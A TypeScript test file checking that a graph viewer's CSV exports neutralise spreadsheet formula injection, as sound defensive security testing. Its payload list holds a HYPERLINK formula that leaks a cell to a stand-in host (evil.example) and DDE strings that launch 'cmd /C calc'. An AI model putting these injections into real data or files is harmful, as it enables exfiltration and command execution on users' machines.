/**
 * CSV formula injection (security review M3) through the viewer's own CSV files. The server's report
 * exports neutralise formulas (server/routes/exports.ts); the viewer writes two CSV files itself, in
 * the browser: the visible nodes (toolbar 导出 CSV, web/src/export.ts) and the two-date comparison
 * (下载表格, web/src/compare-dates.ts). Both hold text an editor writes (names, reasons, documents,
 * quotes), so a cell starting with = + - @ (or tab, CR, or their full-width forms) must be written so
 * that a spreadsheet reads it as text, the same way as the server's exports.
 */
import cytoscape from 'cytoscape';
import { describe, expect, it } from 'vitest';
import { reportCsv } from '../../server/routes/exports.ts';
import { type ChangeRow, rowsToCsv } from '../../web/src/compare-dates.ts';

// web/src/export.ts loads cytoscape-svg, a browser bundle that reads `window` as it loads; Node has none.
(globalThis as { window?: unknown }).window ??= globalThis;
const { visibleNodesCsv } = await import('../../web/src/export.ts');

/** What editors could write: a link that leaks the row, commands (DDE), a formula, full-width forms. */
const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?d="&A1,"点击查看详情")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
];

/** A CSV file's cells, read back the way a spreadsheet does (quotes removed, "" as "). */
function cellsOf(csv: string): string[] {
  const cells: string[] = [];
  const text = csv.replace(/^\uFEFF/, '');
  let i = 0;
  while (i < text.length) {
    let cell = '';
    if (text[i] === '"') {
      i += 1;
      while (i < text.length && !(text[i] === '"' && text[i + 1] !== '"')) {
        cell += text[i];
        i += text[i] === '"' ? 2 : 1;
      }
      i += 1;
    } else {
      while (i < text.length && text[i] !== ',' && text[i] !== '\n' && text[i] !== '\r') cell += text[i++];
    }
    cells.push(cell);
    while (text[i] === ',' || text[i] === '\r' || text[i] === '\n') i += 1;
  }
  return cells;
}

/** The cells that hold a payload must be written as text: a leading ' keeps the spreadsheet from evaluating. */
function expectInert(csv: string) {
  const cells = cellsOf(csv);
  for (const payload of PAYLOADS) {
    const cell = cells.find((c) => c.endsWith(payload));
    expect(cell, `${JSON.stringify(payload)} is in the file`).toBeDefined();
    expect(cell, `${JSON.stringify(payload)} is written as text`).toBe(`'${payload}`);
  }
}

describe('the viewer’s CSV files neutralise spreadsheet formulas (M3)', () => {
  it('the comparison’s rows: names, reasons, documents and quotes', () => {
    const rows: ChangeRow[] = PAYLOADS.map((payload, i) => ({
      change: 'started',
      date: '2024-01-01',
      id: `p${i}`,
      subject: { id: `e${i}`, name: payload, kind: 'Enterprise' },
      object: [],
      before: [],
      reason: payload,
      document: payload,
      quote: payload,
    })) as unknown as ChangeRow[];
    expectInert(rowsToCsv(rows));
  });

  it('the visible nodes: names', () => {
    const cy = cytoscape({
      headless: true,
      elements: PAYLOADS.map((payload, i) => ({ data: { id: `n${i}`, label: payload, kind: 'Village', category: 'Place' } })),
    });
    expectInert(visibleNodesCsv(cy));
  });

  it('as the server’s report exports do', () => {
    expectInert(reportCsv({ title: 't', filter: [], headers: ['name'], rows: PAYLOADS.map((p) => [p]) } as never));
  });
});
